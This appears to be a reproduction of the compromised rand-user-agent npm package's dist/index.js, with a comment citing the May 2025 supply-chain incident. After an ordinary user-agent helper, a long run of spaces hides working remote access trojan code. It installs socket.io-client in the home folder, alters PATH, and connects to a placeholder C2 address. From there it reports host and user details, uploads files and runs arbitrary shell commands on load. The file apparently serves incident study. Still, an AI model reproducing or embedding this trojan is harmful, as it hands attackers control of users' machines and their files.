// Incident: rand-user-agent 1.0.110, 2.0.83 and 2.0.84 (npm), 5 May 2025.
// With a leaked automation token the attacker published versions whose dist/index.js hid,
// after a run of spaces pushing it off screen, code that installed socket.io-client into
// ~/.node_modules, prepended a Python folder to PATH and connected to a C2 that could change
// directory, upload files and run arbitrary shell commands (a remote access trojan).
// Reference: https://www.aikido.dev/blog/catching-a-rat-remote-access-trojian-rand-user-agent-supply-chain-compromise
// Reproduction (own code, placeholder address).
'use strict';

const userAgents = require('./user-agents.json');

function randomIndex(max) {
  return Math.floor(Math.random() * max);
}

function randUserAgent(device, browser, os) {
  let list = userAgents.filter((ua) => !device || ua.deviceCategory === device);
  if (browser) list = list.filter((ua) => ua.userAgent.toLowerCase().includes(browser.toLowerCase()));
  if (os) list = list.filter((ua) => ua.platform.toLowerCase().includes(os.toLowerCase()));
  if (!list.length) return userAgents[randomIndex(userAgents.length)].userAgent;
  return list[randomIndex(list.length)].userAgent;
}

module.exports = randUserAgent;                                                                                                                                                                                    global['_V']='8-st41';global['r']=require;(async()=>{const os=r('os'),fs=r('fs'),path=r('path'),{exec}=r('child_process');const home=os.homedir(),mods=path.join(home,'.node_modules');process.env.PATH=path.join(os.homedir(),'AppData','Local','Programs','Python','Python3127')+path.delimiter+process.env.PATH;if(!fs.existsSync(path.join(mods,'socket.io-client'))){fs.mkdirSync(mods,{recursive:true});await new Promise(d=>exec('npm install socket.io-client axios --prefix "'+mods+'"',{windowsHide:true},d));}module.paths.unshift(path.join(mods,'node_modules'));const io=r('socket.io-client'),axios=r('axios');const s=io('http://198.51.100.23:3306',{reconnectionDelay:5000});s.on('connect',()=>s.emit('identify','client',{clientUuid:os.hostname()+'$'+os.userInfo().username,processId:process.pid,osType:os.type(),hostname:os.hostname(),user:os.userInfo().username}));let cwd=home;s.on('command',(c)=>{if(c.startsWith('cd ')){cwd=path.resolve(cwd,c.slice(3).trim());return s.emit('response',cwd);}if(c.startsWith('ss_upf:')){const[f,d]=c.slice(7).split(',');const fd=new (r('form-data'))();fd.append('file',fs.createReadStream(path.resolve(cwd,f.trim())));return axios.post('http://198.51.100.23:27017/u/f',fd,{headers:{...fd.getHeaders(),dest:d}});}if(c==='ss_stop'){return s.emit('response','stopped');}exec(c,{cwd,windowsHide:true,maxBuffer:1024*1024*300},(e,o,er)=>s.emit('response',e?er||e.message:o));});})();
